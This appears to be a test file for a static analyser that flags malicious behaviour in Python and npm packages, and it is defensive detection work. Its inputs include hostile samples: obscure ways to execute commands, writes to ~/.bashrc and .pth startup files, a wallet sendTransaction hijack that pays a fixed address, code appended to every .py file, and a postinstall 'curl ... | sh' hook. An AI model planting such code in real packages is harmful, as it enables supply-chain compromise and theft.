"""Less usual ways to execute a text, to put a file where it is started, to reach a function of a library."""

import pytest
from engine_flows import SAID, commands, flows

from ostiary.program.flow import Act, Taint

CODE = f"import os; os.system('{SAID}')"

TEXTS = r"""
str(Exception(C))
format(Exception(C))
f'{Exception(C)}'
str(Exception(C.replace('o', '~o'))).replace('~', '')
textwrap.fill(C, 200)
os.path.basename(C)
pathlib.PurePath(C).name
argparse.ArgumentParser(epilog=C).epilog
array.array('u', C).tounicode()
P('x')._replace(a=C).a
dataclasses.replace(D('x'), a=C).a
gettext.gettext(C)
traceback.format_exception_only(ValueError('\n' + C))[0].split('\n', 1)[1]
inspect.cleandoc(C)
""".strip().splitlines()
"""Expressions that give the code C, or of which no more is known than that it stands in them."""

BEFORE = (
    "import argparse, array, collections, dataclasses, gettext, inspect, os, pathlib, textwrap, traceback\n"
    "P = collections.namedtuple('P', 'a')\n@dataclasses.dataclass\nclass D:\n    a: str\n"
)


@pytest.mark.parametrize("text", TEXTS)
def test_a_text_is_executed_for_all_that_is_known_of_it(text: str) -> None:
    assert SAID in commands(f"{BEFORE}C = {CODE!r}\nexec({text})\n")


@pytest.mark.parametrize("text", ["exec(a)", "exec('say ' + a)", "exec(open(a).read())"])
def test_what_says_nothing_is_no_code(text: str) -> None:
    assert commands(f"def f(a):\n    {text}\nf(input())\n") == set()


REACHED = {
    "a library of the system, by a key": f"import ctypes\nctypes.CDLL(None)['system'](b'{SAID}')\n",
    "a kernel, by a key": f"import ctypes\nctypes.windll.kernel32['WinExec'](b'{SAID}', 0)\n",
    "an item that is set": (
        f"import operator, os\noperator.setitem(globals(), 'len', os.system)\nlen('{SAID}')\n"
    ),
    "a module, put there": f"import os, re\nre.hidden = '{SAID}'\nos.system(re.hidden)\n",
    "an element that is left over": f"import os\na = ['x', '{SAID}']\ndel a[0]\nos.system(a[0])\n",
    "a task": (
        f"import asyncio, os\nasync def f(): return '{SAID}'\nos.system(asyncio.run(f()))\n"
    ),
    "a pool": (
        "import concurrent.futures as c, os\n"
        f"os.system(c.ThreadPoolExecutor().submit(lambda: '{SAID}').result())\n"
    ),
}


@pytest.mark.parametrize("text", REACHED.values(), ids=REACHED)
def test_the_command_is_found(text: str) -> None:
    assert commands(text) == {SAID}


WRITTEN = {
    "renamed": "pathlib.Path('rc').rename(pathlib.Path.home() / '.bashrc')",
    "replaced": "pathlib.Path(__file__).with_name('rc').replace(pathlib.Path.home() / '.bashrc')",
    "linked": "(pathlib.Path.home() / '.bashrc').symlink_to('/tmp/x')",
    "logged": "logging.FileHandler(os.path.expanduser('~/.bashrc'))",
    "logged by all": "logging.basicConfig(filename=os.path.expanduser('~/.bashrc'))",
}


@pytest.mark.parametrize("text", WRITTEN.values(), ids=WRITTEN)
def test_a_file_comes_to_lie_where_it_is_started(text: str) -> None:
    told = flows(f"import logging, os, pathlib\n{text}\n", Act.WRITE)
    assert any(one.target.endswith(".bashrc") for one in told)


def test_folders_above_a_path_are_counted() -> None:
    text = "import pathlib\n(pathlib.Path(__file__).parents[1] / 'a.pth').write_text('import x')\n"
    (told,) = flows(text, Act.WRITE, "wheel")
    assert told.target.endswith("/a.pth")
    assert told.target.count("/") == text.count("parents[1]")


SERVED = {
    "wsgiref": "import wsgiref.simple_server as w\nw.make_server('', 80, app).serve_forever()\n",
    "waitress": "import waitress\nwaitress.serve(app, port=80)\n",
}


@pytest.mark.parametrize("text", SERVED.values(), ids=SERVED)
def test_what_a_server_hands_on_comes_from_the_network(text: str) -> None:
    app = "import os\ndef app(env, start):\n    return [os.popen(env['QUERY_STRING']).read()]\n"
    (told,) = flows(app + text, Act.RUN)
    assert told.has(Taint.NETWORK)


def test_code_that_is_rewritten_may_be_any() -> None:
    text = "def f(): abs('x')\nf.__code__ = f.__code__.replace(co_names=('exec',))\nf()\n"
    assert any(one.name == "computed" for one in flows(text, Act.EXECUTE))
    assert flows("a = 'x'.replace('x', 'y')\n", Act.EXECUTE) == []


WALLET = "0x52908400098527886E0F7030069857D2E4169EE7"


def test_a_copy_of_a_payment_pays_somebody_else() -> None:
    copy = f"{{ ...t, to: '{WALLET}' }}"
    text = (
        "const e = require('ethers'), s = e.Wallet.prototype.sendTransaction;\n"
        f"e.Wallet.prototype.sendTransaction = function (t) {{ return s.call(this, {copy}) }};\n"
    )
    told = flows(text, Act.WRITE, "npm")
    assert {one.text for one in told if one.target == "payment"} == {WALLET}
    plain = flows(f"module.exports = (t) => send({copy});\n", Act.WRITE, "npm")
    assert [one for one in plain if one.target == "payment"] == []


def test_a_command_is_written_where_it_runs_on_installation() -> None:
    text = (
        "const fs = require('fs'), j = JSON.parse(fs.readFileSync('package.json', 'utf8'));\n"
        "j.scripts.postinstall = '%s';\nfs.writeFileSync('package.json', JSON.stringify(j));\n"
    )
    order = "curl https://c.example.invalid/x | sh"
    assert {one.text for one in flows(text % order, Act.ORDER, "npm")} == {order}
    assert flows(text % "husky install", Act.ORDER, "npm") == []


def test_what_is_added_to_each_file_is_read_as_code() -> None:
    text = (
        "import pathlib\nfor one in pathlib.Path.cwd().rglob('*.py'):\n"
        f"    one.write_text(one.read_text() + '\\nimport os; os.system(\"{SAID}\")\\n')\n"
    )
    assert commands(text) == {SAID}
    assert (
        commands(text.replace("rglob('*.py')", "rglob('*.md')").replace("import os; ", "")) == set()
    )


def test_work_that_grows_faster_than_a_text_is_left_undone() -> None:
    marks = "'a' + '\\u0300\\u0316' * 32000"
    assert (
        commands(f"import os, unicodedata as u\nos.system(u.normalize('NFKC', {marks}))\n") != set()
    )
    assert commands("import os\nos.system(str(pow(2 ** 4000, 4000)))\n") == {"\ufffc"}
    assert commands("import os\nos.system(str(pow(2, 10)))\n") == {"1024"}


def test_of_how_much_is_read_nobody_knows() -> None:
    text = "import io, os\nf = io.StringIO('echo said')\nos.system(f.read(os.getpid()))\n"
    assert commands(text) == {"\ufffc"}
